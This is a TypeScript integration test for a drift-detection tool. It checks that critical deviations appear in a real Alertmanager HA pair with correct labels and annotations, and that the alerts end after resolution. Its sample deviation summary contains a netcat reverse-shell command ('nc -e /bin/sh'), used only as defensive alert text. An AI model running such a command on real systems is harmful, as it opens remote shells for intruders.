/**
 * Against the real Alertmanager (Debian `prometheus-alertmanager`, two instances as an HA pair):
 * deviations driven through a real bus and the alerting component are read back from
 * Alertmanager's own API with their labels and annotations; resolving ends them there.
 */
import t from 'tap';
import { join } from 'node:path';
import { CollectorBus } from '../../../collector/events.js';
import { SqliteStore } from '../../../collector/store/sqlite/store.js';
import { alerts, BINARY, installed, poll, startAlertmanagers, type AmAlert } from '../../helpers/alertmanager-process.js';
import { alertingConfig, deviation, FAST, startAlerting, withStatus } from '../../helpers/alerting.js';

t.test('real Alertmanager HA pair: labels, annotations, resolution', { skip: installed ? false : `${BINARY} is not installed (apt-get install prometheus-alertmanager)` }, async (t) => {
  const { ams, stop } = await startAlertmanagers(t.testdir(), ['am-a', 'am-b']);
  t.teardown(stop);
  const db = new SqliteStore({ dataDir: join(t.testdir(), 'db') });
  t.teardown(() => db.close());
  const bus = new CollectorBus();
  const alerting = startAlerting(db, bus, alertingConfig({ ...FAST, sinks: [{ name: 'am', type: 'alertmanager', urls: ams.map((a) => a.url) }] }));
  t.teardown(() => alerting.close());
  await alerting.start();

  const d = deviation({ severity: 'critical', firstSeenMs: Date.now() - 60_000, summary: 'new process /usr/bin/nc -e /bin/sh <evil> in payments/api', pods: ['api-5d9c7-abcde', 'api-5d9c7-fghij'] });
  bus.emit({ type: 'deviation.created', deviation: d });

  for (const am of ams) {
    let got: AmAlert | undefined;
    await poll(async () => (got = (await alerts(am.url)).find((a) => a.labels.deviation_id === String(d.id))) !== undefined);
    t.same(got!.labels, {
      alertname: 'DriftwatchDeviation',
      severity: 'critical',
      cluster: 'test',
      namespace: 'payments',
      workload: 'api',
      workload_kind: 'Deployment',
      container: 'app',
      deviation_kind: 'process',
      deviation_id: String(d.id),
    }, `${am.url}: labels`);
    t.equal(got!.annotations.summary, d.summary, 'summary annotation, text intact');
    t.match(got!.annotations.description, /pods: api-5d9c7-abcde, api-5d9c7-fghij/);
    t.match(got!.annotations.description, /lineage: /);
    t.match(got!.annotations.description, /first seen: /);
    t.equal(got!.annotations.url, `https://driftwatch.example/ui/deviations/${d.id}`);
    t.equal(got!.generatorURL, `https://driftwatch.example/ui/deviations/${d.id}`);
    t.equal(Date.parse(got!.startsAt), d.firstSeenMs, 'startsAt = first seen');
    t.ok(Date.parse(got!.endsAt) > Date.now(), 'still firing for a while without a re-post');
    t.equal(got!.status.state, 'active');
  }

  bus.emit({ type: 'deviation.status', deviation: withStatus(d, 'added-to-baseline'), previous: 'open', actor: 'alice' });
  for (const am of ams) {
    // Alertmanager drops resolved alerts from its list, or shows them with endsAt in the past.
    await poll(async () => {
      const a = (await alerts(am.url)).find((x) => x.labels.deviation_id === String(d.id));
      return !a || Date.parse(a.endsAt) <= Date.now();
    });
    t.pass(`${am.url}: the alert ended`);
  }
});
